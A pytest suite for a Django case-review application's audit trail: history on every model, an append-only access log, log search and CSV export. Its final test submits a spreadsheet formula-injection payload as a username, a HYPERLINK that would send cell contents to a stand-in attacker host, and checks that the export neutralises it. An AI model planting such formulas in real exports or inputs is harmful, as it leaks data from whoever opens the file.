"""The audit trail: history on every record, an append-only access log, and the pages
that read them."""

from __future__ import annotations

import ast
import csv
import io
import os
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from django.apps import apps
from django.contrib import admin
from django.db import DatabaseError, connection, models, transaction
from django.test import Client
from django.utils import timezone
from django.utils.html import escape
from simple_history.exceptions import NotHistoricalModelError
from simple_history.models import HistoricalChanges
from simple_history.utils import get_history_manager_for_model

from agencies import services
from agencies.models import Membership, User
from reviews import services as review_services
from reviews.models import Review
from scr.models import AccessEvent
from tests.conftest import Personas, client_for

# Its tests count sessions and sign-in events: no persona is signed in beforehand.
pytestmark = pytest.mark.fresh_sessions

ROOT = Path(__file__).resolve().parents[2]
PROJECT_APPS = ("scr", "agencies", "reviews", "actionplans", "search")
# Models deliberately without simple-history, and why (docs/audit.md).
HISTORY_EXEMPT = {
    "scr.AccessEvent": "append-only: a row never changes",
    "reviews.TimelineRow": "an index of the history tables (one row per history row of a "
                           "review's records), appended with them and never changed",
    "scr.AuditLink": "append-only: the hash chain over the audit itself",
    "scr.SignedInSession": "a mirror of the session table (sign-in and sign-out are in the "
                           "access log)",
    "agencies.BackupCodeDevice": "second-factor secrets (set up and reset are in the access log "
                                 "and the person's history)",
    "agencies.BackupCode": "second-factor secrets, kept as hashes only",
    "scr.OutboxMessage": "queue bookkeeping (a task asked for, when it was sent), not case data",
    "scr.Notification": "a message about a hand-off (what happened is in the producing "
                        "record's history); read and e-mailed are bookkeeping",
    "scr.Heartbeat": "when the beat scheduler last ran (read by /healthz), not case data",
    "scr.TaskFailure": "a background task that raised (counted by /metrics), not case data",
}


# ---------------------------------------------------------------- history on every model


def project_models() -> list[type[models.Model]]:
    found = []
    for label in PROJECT_APPS:
        for model in apps.get_app_config(label).get_models():
            if issubclass(model, HistoricalChanges):
                continue  # the history tables themselves
            found.append(model)
    return found


def has_history(model: type[models.Model]) -> bool:
    try:
        get_history_manager_for_model(model)
    except NotHistoricalModelError:
        return False
    return True


def test_every_project_model_keeps_history_except_the_documented_exemptions() -> None:
    models_found = project_models()
    assert {m._meta.label for m in models_found} >= {"agencies.User", "reviews.Review",
                                                     "scr.AccessEvent"}
    missing = [m._meta.label for m in models_found
               if not has_history(m) and m._meta.label not in HISTORY_EXEMPT]
    assert missing == [], f"Models without simple-history: {missing}"


def test_history_exemptions_are_still_real_models_without_history() -> None:
    labels = {m._meta.label: m for m in project_models()}
    for label in HISTORY_EXEMPT:
        assert label in labels, f"{label} is exempt but no longer exists"
        assert not has_history(labels[label]), f"{label} has history: drop the exemption"


# ---------------------------------------------------------------- no history-skipping writes

# Writes that skip simple-history's signals. Any allowed one is listed here, with why,
# as (path relative to the project, the call as ast.unparse prints it).
ALLOWED_BULK_WRITES: frozenset[tuple[str, str]] = frozenset({
    # The audit chain's links: append-only and without history of their own.
    ("scr/auditchain.py", "AuditLink.objects.bulk_create"),
    # The review's timeline: an index of history rows simple-history's bulk helpers have just
    # written (with who and why), appended beside them; it has no history of its own.
    ("reviews/models/history.py", "TimelineRow.objects.bulk_create"),
    # The auto-created many-to-many tables of a digest written the same moment (no history
    # of their own, as with any m2m add, which bulk-inserts them too); the digest itself is
    # saved with its history (actionplans/services/reminders.py).
    ("actionplans/services/reminders.py", "Digest.reviews.through.objects.bulk_create"),
    ("actionplans/services/reminders.py", "Digest.agencies.through.objects.bulk_create"),
    # A batch's lease given up (scr/reminders.py release): only the lease's two fields, which
    # the ledger's history leaves out (bookkeeping of the queue, as the outbox's attempts).
    ("scr/reminders.py", "held.update"),
    # The hand-off notifications a digest carried marked e-mailed, in the digest's claim
    # (scr/notifications.py mark_digested): a message's delivery bookkeeping, not case data
    # (Notification has no history; the hand-off itself is in the producing record's).
    ("scr/notifications.py", "notifications.filter(emailed_at__isnull=True).update"),
})
# Benchmarks that seed a database of their own (never the app's), where what is measured
# does not read history: their bulk inserts are the seed, not a change to case data.
OWN_DATABASE_SEEDS = frozenset({
    "benchmarks/yearly_figures.py",  # period_figures reads no history; 5,000 reviews in 6 s
})
BULK_METHODS = {"bulk_create", "bulk_update"}
QUERYSET_METHODS = {
    "all", "filter", "exclude", "order_by", "select_related", "prefetch_related", "annotate",
    "alias", "distinct", "none", "using", "select_for_update", "defer", "only", "reverse",
    "extra", "complex_filter", "for_user", "active", "open", "union", "intersection",
    "difference",
}
MANAGER_NAMES = {"objects", "_default_manager", "_base_manager", "history"}
EXCLUDED_DIRS = {".venv", "venv", "node_modules", "migrations", "tests", "__pycache__", ".git"}


def related_manager_names() -> set[str]:
    """Attribute names that give a manager on an instance (reverse FKs, many-to-many)."""
    names = set()
    for model in apps.get_models():
        for field in model._meta.get_fields():
            if field.many_to_many or field.one_to_many:
                accessor = (field.get_accessor_name() if field.auto_created else field.name)
                if accessor and not accessor.endswith("+"):
                    names.add(accessor)
    return names


def looks_like_queryset(node: ast.expr, managers: set[str]) -> bool:
    """Does this expression evaluate to a queryset or manager, as far as syntax shows?"""
    for sub in ast.walk(node):
        if isinstance(sub, ast.Call) and isinstance(sub.func, ast.Attribute) and (
                sub.func.attr in QUERYSET_METHODS):
            return True
        if isinstance(sub, ast.Attribute) and sub.attr in managers:
            return True
        if isinstance(sub, ast.Name) and (sub.id in {"qs", "queryset"} or sub.id.endswith(
                ("_qs", "_queryset"))):
            return True
    return False


def history_skipping_writes(source: str, managers: set[str]) -> list[tuple[int, str]]:
    found = []
    for node in ast.walk(ast.parse(source)):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
            continue
        attr = node.func.attr
        if attr in BULK_METHODS or (attr == "update" and looks_like_queryset(node.func.value,
                                                                              managers)):
            found.append((node.lineno, ast.unparse(node.func)))
    return found


def project_sources() -> Iterator[Path]:
    for folder, dirs, files in os.walk(ROOT):
        dirs[:] = sorted(d for d in dirs if d not in EXCLUDED_DIRS and not d.startswith("."))
        for name in sorted(files):
            if name.endswith(".py"):
                yield Path(folder) / name


@pytest.fixture(scope="module")
def managers() -> set[str]:
    return MANAGER_NAMES | related_manager_names()


@pytest.mark.parametrize(("source", "flagged"), [
    ("Review.objects.filter(pk=1).update(stage='closed')", True),
    ("Review.objects.update(stage='closed')", True),
    ("qs.update(stage='closed')", True),
    ("review.subjects.update(withdrawn=True)", True),
    ("Membership.objects.for_user(u).exclude(pk=1).update(active_to=None)", True),
    ("Agency.objects.bulk_create([a, b])", True),
    ("Agency.objects.bulk_update([a], ['name'])", True),
    ("context.update({'a': 1})", False),
    ("self.fields['username'].widget.attrs.update({'autocomplete': 'username'})", False),
    ("app.conf.update(task_serializer='json')", False),
    ("class Q:\n    def update(self, **kwargs):\n        raise PermissionError", False),
    ("bulk_create_with_history(rows, Agency)", False),
])
def test_bulk_write_detector_tells_querysets_from_dicts(source: str, flagged: bool,
                                                        managers: set[str]) -> None:
    assert bool(history_skipping_writes(source, managers)) is flagged


def test_no_project_code_writes_past_history_with_update_or_bulk_calls(
        managers: set[str]) -> None:
    sources = list(project_sources())
    scanned = {p.relative_to(ROOT).as_posix() for p in sources}
    assert {"agencies/services/people.py", "reviews/services/lifecycle.py",
            "scr/models.py"} <= scanned
    assert not any("/migrations/" in p or p.startswith("tests/") for p in scanned)
    offending = []
    for path in sources:
        rel = path.relative_to(ROOT).as_posix()
        if rel in OWN_DATABASE_SEEDS:
            continue
        for line, call in history_skipping_writes(path.read_text(encoding="utf-8"), managers):
            if (rel, call) not in ALLOWED_BULK_WRITES:
                offending.append(f"{rel}:{line}: {call}(...)")
    assert offending == [], ("These writes skip simple-history (no who/why recorded); use a "
                             "service with save_with_history instead:\n" + "\n".join(offending))


def test_access_log_queryset_update_definition_is_not_mistaken_for_a_call(
        managers: set[str]) -> None:
    source = (ROOT / "scr" / "models.py").read_text(encoding="utf-8")
    assert "def update" in source
    assert history_skipping_writes(source, managers) == []


# ---------------------------------------------------------------- the access log is append-only


@pytest.fixture
def event(db: None) -> AccessEvent:
    return AccessEvent.objects.create(action=AccessEvent.Action.VIEW, object_repr="SCR-1",
                                      review_id=1, path="/reviews/1/")


def test_saving_an_existing_access_event_is_refused(event: AccessEvent) -> None:
    event.object_repr = "tampered"
    with pytest.raises(PermissionError):
        event.save()
    event.refresh_from_db()
    assert event.object_repr == "SCR-1"


def test_deleting_an_access_event_is_refused(event: AccessEvent) -> None:
    with pytest.raises(PermissionError):
        event.delete()
    assert AccessEvent.objects.filter(pk=event.pk).exists()


def test_queryset_update_of_the_access_log_is_refused(event: AccessEvent) -> None:
    with pytest.raises(PermissionError):
        AccessEvent.objects.filter(pk=event.pk).update(object_repr="tampered")
    with pytest.raises(PermissionError):
        AccessEvent.objects.update(object_repr="tampered")
    event.refresh_from_db()
    assert event.object_repr == "SCR-1"


def test_queryset_delete_of_the_access_log_is_refused(event: AccessEvent) -> None:
    with pytest.raises(PermissionError):
        AccessEvent.objects.filter(pk=event.pk).delete()
    with pytest.raises(PermissionError):
        AccessEvent.objects.all().delete()
    assert AccessEvent.objects.filter(pk=event.pk).exists()


def test_changing_a_users_access_events_through_the_relation_is_refused(
        personas: Personas) -> None:
    AccessEvent.objects.create(action=AccessEvent.Action.VIEW, user=personas.police_lead)
    with pytest.raises(PermissionError):
        personas.police_lead.access_events.update(action=AccessEvent.Action.EXPORT)
    with pytest.raises(PermissionError):
        personas.police_lead.access_events.all().delete()
    assert personas.police_lead.access_events.filter(action=AccessEvent.Action.VIEW).exists()


def test_bulk_update_of_the_access_log_is_refused(event: AccessEvent) -> None:
    event.object_repr = "tampered"
    with pytest.raises(PermissionError), transaction.atomic():
        AccessEvent.objects.bulk_update([event], ["object_repr"])
    event.refresh_from_db()
    assert event.object_repr == "SCR-1"


@pytest.mark.postgresql
@pytest.mark.skipif(connection.vendor != "postgresql", reason="the trigger is PostgreSQL only")
@pytest.mark.parametrize("statement", [
    "UPDATE scr_accessevent SET object_repr = 'tampered' WHERE id = %s",
    "DELETE FROM scr_accessevent WHERE id = %s",
])
def test_database_refuses_raw_sql_changes_to_the_access_log(event: AccessEvent,
                                                            statement: str) -> None:
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), \
            connection.cursor() as cursor:
        cursor.execute(statement, [event.pk])
    event.refresh_from_db()
    assert event.object_repr == "SCR-1"


# ---------------------------------------------------------------- the access log in the admin


@pytest.fixture
def superuser_client(db: None) -> Client:
    user = User.objects.create_superuser("root", "root@example.invalid", "x" * 16)
    return client_for(user)


def test_access_log_admin_allows_no_add_change_or_delete(rf: Any, db: None) -> None:
    model_admin = admin.site._registry[AccessEvent]
    request = rf.get("/admin/")
    request.user = User(is_superuser=True, is_staff=True, is_active=True)
    assert model_admin.has_view_permission(request)
    assert not model_admin.has_add_permission(request)
    assert not model_admin.has_change_permission(request)
    assert not model_admin.has_delete_permission(request)
    assert "delete_selected" not in model_admin.get_actions(request)


def test_access_log_admin_pages_are_read_only_even_for_a_superuser(
        superuser_client: Client, event: AccessEvent) -> None:
    listing = superuser_client.get("/admin/scr/accessevent/")
    assert listing.status_code == 200
    assert "delete_selected" not in listing.content.decode()
    detail = superuser_client.get(f"/admin/scr/accessevent/{event.pk}/change/")
    assert detail.status_code == 200
    assert 'name="_save"' not in detail.content.decode()
    assert superuser_client.post(f"/admin/scr/accessevent/{event.pk}/change/",
                                 {"object_repr": "tampered"}).status_code == 403
    assert superuser_client.get(f"/admin/scr/accessevent/{event.pk}/delete/").status_code == 403
    assert superuser_client.post(f"/admin/scr/accessevent/{event.pk}/delete/",
                                 {"post": "yes"}).status_code == 403
    assert superuser_client.get("/admin/scr/accessevent/add/").status_code == 403
    event.refresh_from_db()
    assert event.object_repr == "SCR-1"


def test_access_log_page_offers_no_way_to_change_or_delete(personas: Personas) -> None:
    AccessEvent.objects.create(action=AccessEvent.Action.VIEW, review_id=7, object_repr="SCR-7")
    html = client_for(personas.manager).get("/access-log/").content.decode()
    assert "SCR-7" in html
    assert "cannot be changed" in html
    assert "<form method=\"post\"" not in html.split('id="main-content"', 1)[1]


# ---------------------------------------------------------------- services record who and why


def latest_history(obj: models.Model) -> Any:
    return obj.history.order_by("-history_date", "-history_id").first()  # type: ignore[attr-defined]


def test_inviting_a_user_records_who_and_why_on_the_user_and_the_membership(
        personas: Personas) -> None:
    user = services.user_invite(by=personas.manager, username="new_lead", email="n@example.invalid",
                                first_name="Nia", last_name="Lead", role="agency_lead",
                                agency=personas.police, reason="Joined the police team")
    created = latest_history(user)
    assert created.history_type == "+"
    assert created.history_user == personas.manager
    assert created.history_change_reason == "Joined the police team"
    membership = Membership.objects.get(user=user)
    history = latest_history(membership)
    assert history.history_type == "+"
    assert history.history_user == personas.manager
    assert history.history_change_reason == "Joined the police team"


def test_deactivating_a_user_records_who_and_why(personas: Personas) -> None:
    services.user_deactivate(by=personas.manager, user=personas.police_lead,
                             reason="Left the police")
    history = latest_history(personas.police_lead)
    assert history.history_type == "~"
    assert history.is_active is False
    assert history.history_user == personas.manager
    assert history.history_change_reason == "Left the police"


def test_giving_a_role_records_who_and_why(personas: Personas) -> None:
    membership = services.membership_create(by=personas.manager, user=personas.health_lead,
                                            role="reviewer", agency=None,
                                            reason="Joined the reviewers' pool")
    history = latest_history(membership)
    assert history.history_user == personas.manager
    assert history.history_change_reason == "Joined the reviewers' pool"


def test_ending_a_role_records_who_why_and_the_end_date(personas: Personas) -> None:
    membership = Membership.objects.get(user=personas.health_lead)
    end = timezone.localdate()
    services.membership_end(by=personas.manager, membership=membership, on=end,
                            reason="Moved to another trust")
    history = latest_history(membership)
    assert history.history_type == "~"
    assert history.active_to == end
    assert history.history_user == personas.manager
    assert history.history_change_reason == "Moved to another trust"


def test_history_is_kept_for_every_version_not_just_the_last(personas: Personas) -> None:
    lead = personas.police_lead
    for surname in ("Ames", "Baker"):
        services.user_update(by=personas.manager, user=lead, first_name="Pat", last_name=surname,
                             email=lead.email, job_title="", reason=f"Now {surname}")
    reasons = list(lead.history.order_by("history_date", "history_id")
                   .values_list("history_change_reason", flat=True))
    assert reasons[-2:] == ["Now Ames", "Now Baker"]


# ---------------------------------------------------------------- the record history page


@pytest.fixture
def renamed_lead(personas: Personas) -> User:
    lead = personas.police_lead
    services.user_update(by=personas.manager, user=lead, first_name="Priya", last_name="Old",
                         email=lead.email, job_title="Detective sergeant", reason="Set up")
    services.user_update(by=personas.manager, user=lead, first_name="Priya", last_name="Newname",
                         email=lead.email, job_title="Detective inspector",
                         reason="Promoted and married")
    return lead


def test_record_history_shows_field_level_before_and_after_with_who_and_why(
        personas: Personas, renamed_lead: User) -> None:
    response = client_for(personas.manager).get(f"/history/agencies.user/{renamed_lead.pk}/")
    assert response.status_code == 200
    entries = response.context["entries"]
    newest = entries[0]
    assert newest.kind == "Changed"
    assert newest.why == "Promoted and married"
    assert newest.who == personas.manager.get_full_name()
    changes = {c.field: (c.old, c.new) for c in newest.changes}
    assert changes == {"Last name": ("Old", "Newname"),
                       "Job title": ("Detective sergeant", "Detective inspector")}
    html = response.content.decode()
    assert "Promoted and married" in html
    assert escape(personas.manager.get_full_name()) in html
    for text in ("Last name", "Old", "Newname", "Detective sergeant", "Detective inspector"):
        assert text in html


def test_record_history_never_shows_the_password(personas: Personas,
                                                 renamed_lead: User) -> None:
    services.user_deactivate(by=personas.manager, user=renamed_lead, reason="Left")
    response = client_for(personas.manager).get(f"/history/agencies.user/{renamed_lead.pk}/")
    fields = {c.field for e in response.context["entries"] for c in e.changes}
    assert "Password" not in fields
    assert "Active" in fields
    assert "md5$" not in response.content.decode()


def test_agency_lead_cannot_read_their_own_record_history(personas: Personas,
                                                          renamed_lead: User) -> None:
    response = client_for(renamed_lead).get(f"/history/agencies.user/{renamed_lead.pk}/")
    assert response.status_code == 403


def test_agency_lead_gets_not_found_for_another_persons_record_history(
        personas: Personas) -> None:
    response = client_for(personas.police_lead).get(
        f"/history/agencies.user/{personas.health_lead.pk}/")
    assert response.status_code == 404


@pytest.mark.parametrize("label", ["scr.accessevent", "auth.group", "agencies.nosuchmodel",
                                   "nonsense"])
def test_record_history_is_not_found_for_models_it_does_not_serve(personas: Personas,
                                                                  label: str) -> None:
    response = client_for(personas.manager).get(f"/history/{label}/1/")
    assert response.status_code == 404


def test_anonymous_visitor_is_sent_to_sign_in_from_record_history(personas: Personas) -> None:
    response = Client().get(f"/history/agencies.user/{personas.manager.pk}/")
    assert response.status_code == 302
    assert response.url.startswith("/sign-in/")


# ---------------------------------------------------------------- searching the access log


def at(day: date, hour: int = 12) -> datetime:
    return datetime(day.year, day.month, day.day, hour, tzinfo=UTC)


def log_event(when: datetime, **fields: Any) -> AccessEvent:
    with mock.patch("django.utils.timezone.now", return_value=when):
        return AccessEvent.objects.create(**fields)


@pytest.fixture
def logged(personas: Personas) -> dict[str, AccessEvent]:
    p = personas
    return {
        "lead_r1_march": log_event(at(date(2025, 3, 3)), user=p.police_lead,
                                   username="police_lead", action="view", review_id=101,
                                   object_type="reviews.Review",
                                   object_repr="LCSPR-2025-001", ip_address="192.0.2.1"),
        "lead_r2_march": log_event(at(date(2025, 3, 10)), user=p.police_lead,
                                   username="police_lead", action="download", review_id=102,
                                   object_repr="LCSPR-2025-002"),
        "lead_r1_may": log_event(at(date(2025, 5, 20)), user=p.police_lead,
                                 username="police_lead", action="view", review_id=101,
                                   object_type="reviews.Review",
                                 object_repr="LCSPR-2025-001"),
        "reviewer_r1_march": log_event(at(date(2025, 3, 4)), user=p.reviewer,
                                       username="reviewer", action="view", review_id=101,
                                       object_repr="LCSPR-2025-001"),
    }


def shown(response: Any) -> set[int]:
    assert response.status_code == 200
    return {e.pk for e in response.context["page"].object_list}


def test_business_manager_searches_the_access_log_by_user(
        personas: Personas, logged: dict[str, AccessEvent]) -> None:
    client = client_for(personas.manager)
    result = shown(client.get("/access-log/", {"person": "police_lead"}))
    assert result == {logged["lead_r1_march"].pk, logged["lead_r2_march"].pk,
                      logged["lead_r1_may"].pk}


def test_business_manager_searches_the_access_log_by_a_persons_name_not_an_id(
        personas: Personas, logged: dict[str, AccessEvent]) -> None:
    lead = personas.police_lead
    lead.first_name, lead.last_name = "Jordan", "Pricewell"
    lead.save()
    response = client_for(personas.manager).get("/access-log/", {"person": "pricew"})
    assert shown(response) == {logged["lead_r1_march"].pk, logged["lead_r2_march"].pk,
                               logged["lead_r1_may"].pk}
    assert "Jordan Pricewell" in response.content.decode()


def test_business_manager_searches_the_access_log_by_review(
        personas: Personas, logged: dict[str, AccessEvent]) -> None:
    result = shown(client_for(personas.manager).get("/access-log/",
                                                    {"review": "lcspr-2025-001"}))
    assert result == {logged["lead_r1_march"].pk, logged["lead_r1_may"].pk,
                      logged["reviewer_r1_march"].pk}


def test_business_manager_searches_the_access_log_by_date_range(
        personas: Personas, logged: dict[str, AccessEvent]) -> None:
    client = client_for(personas.manager)
    result = shown(client.get("/access-log/", {"date_from": "01/03/2025",
                                               "date_to": "04/03/2025"}))
    assert result == {logged["lead_r1_march"].pk, logged["reviewer_r1_march"].pk}
    # Both ends are inclusive.
    result = shown(client.get("/access-log/", {"date_from": "04/03/2025",
                                               "date_to": "10/03/2025"}))
    assert result == {logged["reviewer_r1_march"].pk, logged["lead_r2_march"].pk}


def test_business_manager_combines_user_review_and_dates_in_one_search(
        personas: Personas, logged: dict[str, AccessEvent]) -> None:
    result = shown(client_for(personas.manager).get("/access-log/", {
        "person": "police_lead", "review": "LCSPR-2025-001",
        "date_from": "01/03/2025", "date_to": "31/03/2025"}))
    assert result == {logged["lead_r1_march"].pk}


def test_access_log_search_with_an_end_before_the_start_shows_the_error_and_nothing_else(
        personas: Personas, logged: dict[str, AccessEvent]) -> None:
    response = client_for(personas.manager).get("/access-log/", {"date_from": "10/03/2025",
                                                                 "date_to": "01/03/2025"})
    assert shown(response) == set()
    html = response.content.decode()
    assert "There is a problem" in html
    assert "The end date must be on or after the start date" in html


def test_access_log_lists_newest_first(personas: Personas,
                                       logged: dict[str, AccessEvent]) -> None:
    response = client_for(personas.manager).get("/access-log/", {"review": "LCSPR-2025-001"})
    events = list(response.context["page"].object_list)
    assert [e.at for e in events] == sorted((e.at for e in events), reverse=True)


def read_csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_business_manager_exports_the_filtered_access_log_as_csv(
        personas: Personas, logged: dict[str, AccessEvent]) -> None:
    response = client_for(personas.manager).get("/access-log/export.csv",
                                                {"person": "police_lead",
                                                 "review": "LCSPR-2025-001"})
    rows = read_csv(response)
    assert [r["time_utc"][:10] for r in rows] == ["2025-05-20", "2025-03-03"]
    first_march = rows[1]
    assert first_march["user"] == "police_lead"
    assert first_march["action"] == "view"
    assert first_march["object"] == "LCSPR-2025-001"
    assert first_march["review_id"] == "101"
    assert first_march["ip_address"] == "192.0.2.1"
    assert datetime.fromisoformat(first_march["time_utc"]) == at(date(2025, 3, 3))


def test_exporting_the_access_log_is_itself_logged(personas: Personas,
                                                   logged: dict[str, AccessEvent]) -> None:
    client = client_for(personas.manager)
    read_csv(client.get("/access-log/export.csv", {"review": "LCSPR-2025-001"}))
    export = AccessEvent.objects.get(action=AccessEvent.Action.EXPORT)
    assert export.user == personas.manager
    assert export.object_repr == "Access log CSV"
    assert export.path.startswith("/access-log/export.csv?")
    assert "review=LCSPR-2025-001" in export.path
    assert export.ip_address == "127.0.0.1"


def test_unfiltered_export_includes_every_event(personas: Personas,
                                                logged: dict[str, AccessEvent]) -> None:
    rows = read_csv(client_for(personas.manager).get("/access-log/export.csv"))
    assert len(rows) == AccessEvent.objects.count()


@pytest.mark.parametrize("role", ["reviewer", "panel_member", "police_lead", "board_member"])
@pytest.mark.parametrize("url", ["/access-log/", "/access-log/export.csv"])
def test_only_business_managers_read_or_export_the_access_log(personas: Personas, role: str,
                                                              url: str) -> None:
    user = personas.by_role()[role]
    assert client_for(user).get(url).status_code == 403
    assert not AccessEvent.objects.filter(action=AccessEvent.Action.EXPORT).exists()


# ---------------------------------------------------------------- case pages are logged


@pytest.fixture
def review(personas: Personas) -> Review:
    today = timezone.localdate()
    return review_services.review_create(
        by=personas.manager, incident_date=today - timedelta(days=3),
        aware_date=today - timedelta(days=2), what_happened="A child was seriously hurt.",
        harm=Review.Harm.SERIOUS_HARM, abuse_or_neglect=Review.AbuseNeglect.SUSPECTED,
        criteria_met=True, referring_agency=personas.police, agencies_involved=[])


@pytest.mark.parametrize("role", ["business_manager", "police_lead"])
def test_viewing_a_review_page_writes_one_view_event_with_the_review(
        personas: Personas, review: Review, role: str) -> None:
    user = personas.by_role()[role]
    client = client_for(user)
    before = AccessEvent.objects.count()
    response = client.get(f"/reviews/{review.pk}/")
    assert response.status_code == 200
    assert AccessEvent.objects.count() == before + 1
    event = AccessEvent.objects.get(action=AccessEvent.Action.VIEW)
    assert event.user == user
    assert event.review_id == review.pk
    assert event.object_type == "reviews.Review"
    assert event.object_id == str(review.pk)
    assert event.object_repr == review.reference
    assert event.path == f"/reviews/{review.pk}/"
    assert event.ip_address == "127.0.0.1"


def test_each_view_of_a_review_page_is_logged(personas: Personas, review: Review) -> None:
    client = client_for(personas.manager)
    for _ in range(3):
        client.get(f"/reviews/{review.pk}/")
    assert AccessEvent.objects.filter(action=AccessEvent.Action.VIEW,
                                      review_id=review.pk).count() == 3


def test_viewed_review_is_found_by_searching_the_access_log_for_it(
        personas: Personas, review: Review) -> None:
    lead = client_for(personas.police_lead)
    lead.get(f"/reviews/{review.pk}/")
    lead.get(f"/reviews/{review.pk}/people/")
    result = client_for(personas.manager).get("/access-log/", {"review": review.reference})
    events = list(result.context["page"].object_list)
    assert [(e.user, e.action, e.path) for e in events] == [
        (personas.police_lead, "view", f"/reviews/{review.pk}/people/"),
        (personas.police_lead, "view", f"/reviews/{review.pk}/")]
    # The page names the review by its reference, never by its internal number.
    assert f"<td class=\"govuk-table__cell\">{review.reference}</td>" in result.content.decode()


def test_access_log_is_shown_and_searched_in_local_time_and_exported_in_utc(
        personas: Any) -> None:
    # 23:30 UTC on 30 June is already 00:30 on 1 July in London (summer time).
    late = datetime(2025, 6, 30, 23, 30, tzinfo=UTC)
    with mock.patch("django.utils.timezone.now", return_value=late):
        AccessEvent.objects.create(user=personas.police_lead, username="police_lead",
                                   action=AccessEvent.Action.VIEW, object_repr="late-night view")
    client = client_for(personas.manager)
    found = client.get("/access-log/", {"date_from": "01/07/2025", "date_to": "01/07/2025"})
    assert "late-night view" in found.content.decode()
    assert "1 Jul 2025, 00:30:00" in found.content.decode()
    missed = client.get("/access-log/", {"date_from": "30/06/2025", "date_to": "30/06/2025"})
    assert "late-night view" not in missed.content.decode()
    export = client.get("/access-log/export.csv", {"date_from": "01/07/2025"})
    assert "2025-06-30T23:30:00+00:00" in b"".join(export.streaming_content).decode()


def test_access_log_export_defuses_spreadsheet_formulas(personas: Any) -> None:
    from django.test import Client

    Client().post("/sign-in/", {"username": '=HYPERLINK("http://evil.example/?"&A1,"x")',
                                "password": "wrong"})
    body = client_for(personas.manager).get("/access-log/export.csv")
    text = b"".join(body.streaming_content).decode()
    assert "'=HYPERLINK" in text
    assert ',=HYPERLINK' not in text
